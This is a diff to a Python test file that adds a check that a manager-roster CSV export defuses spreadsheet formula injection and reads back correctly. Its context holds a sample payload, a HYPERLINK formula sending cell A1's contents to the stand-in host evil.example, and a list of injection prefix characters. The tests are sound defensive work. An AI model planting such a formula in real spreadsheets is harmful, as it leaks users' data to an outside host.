@@ -21,6 +21,7 @@ import talent_core as tc
 from talent_core.cli import main
 from talent_core.formats import read_framework, write_framework
 from talent_core.grouping import read_groups_csv
+from talent_core.managers import manager_roster_csv, read_manager_roster
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -220,3 +221,13 @@ def test_cli_convert_writes_defused_moodle_and_taxonomy_files(tmp_path: Path) ->
         out = tmp_path / f"{target}.csv"
         assert main(["framework", "convert", str(source), "--to", target, "-o", str(out)]) == 0
         assert_defused(out.read_text("utf-8"))
+
+
+def test_manager_roster_csv_is_defused_and_the_block_reads_it_back() -> None:
+    people = [
+        tc.Person("1", "=Ann", "", None, "", "", "UTC", 1, "en", {"username": "ann"}),
+        tc.Person("2", "@Bo", "", "1", "", "", "UTC", 1, "en", {"username": "bo"}),
+    ]
+    text = manager_roster_csv(people)
+    assert_defused(text)
+    assert read_manager_roster(text).rows == (("ann", "", "=Ann"), ("bo", "ann", "@Bo"))
